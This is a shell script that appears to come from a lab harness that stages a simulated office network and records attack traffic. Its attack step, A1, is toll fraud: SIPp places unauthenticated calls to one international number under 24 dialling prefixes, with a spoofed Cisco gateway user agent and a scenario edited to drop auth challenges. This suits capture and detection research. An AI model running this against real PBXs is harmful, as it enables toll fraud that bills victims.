# Without a password somebody outside tries 24 prefixes before one number abroad.
relocate example.net 5060 192.168.28 198.51.100 100.64.231
EXTENSIONS=(501 502 503 504 505 506)
EXISTING='^50[0-9]$'
WEAK=none
open_office
add_attacker dialler 100.64.231.40
start_office_capture
keep_alive 9
office_day 408 62
printf '%s\n' SEQUENTIAL >"$scratch/numbers.csv"
for prefix in '' 0 00 000 9 90 900 9000 8 80 800 810 1 100 1000 011 9011 90011 0011 2 200 '+' 7 700; do
    echo "${prefix}442035550119;" >>"$scratch/numbers.csv"
done
# What is challenged is acknowledged and given up.
python3 - "$parts/sipp/spit.xml" "$scratch/dial.xml" <<'END'
import sys
text = open(sys.argv[1]).read().replace("[field1]", "501")
refused = '  <recv response="403" optional="true" next="refused"/>\n'
assert refused in text
text = text.replace(refused, refused + '\n' + refused.replace("403", "407") + '\n' + refused.replace("403", "401")).replace("branch-14", "branch-16")
open(sys.argv[2], "w").write(text)
END
at 15 attack A1 toll_fraud dialler 5060 "Without a password SIPp calls one number abroad under 24 prefixes, one per 1.3 seconds." \
    "$(version_of sipp)" env TERM=dumb sipp -sf "$scratch/dial.xml" -nostdin -inf "$scratch/numbers.csv" \
    -i 100.64.231.40 -mi 100.64.231.40 -p 5060 -key agent "Cisco-SIPGateway/IOS-12.x" -d 1000 -r 1 -rp 1300 -m 24 -l 8 192.168.28.1:5060
play
wait_for A1
close_office
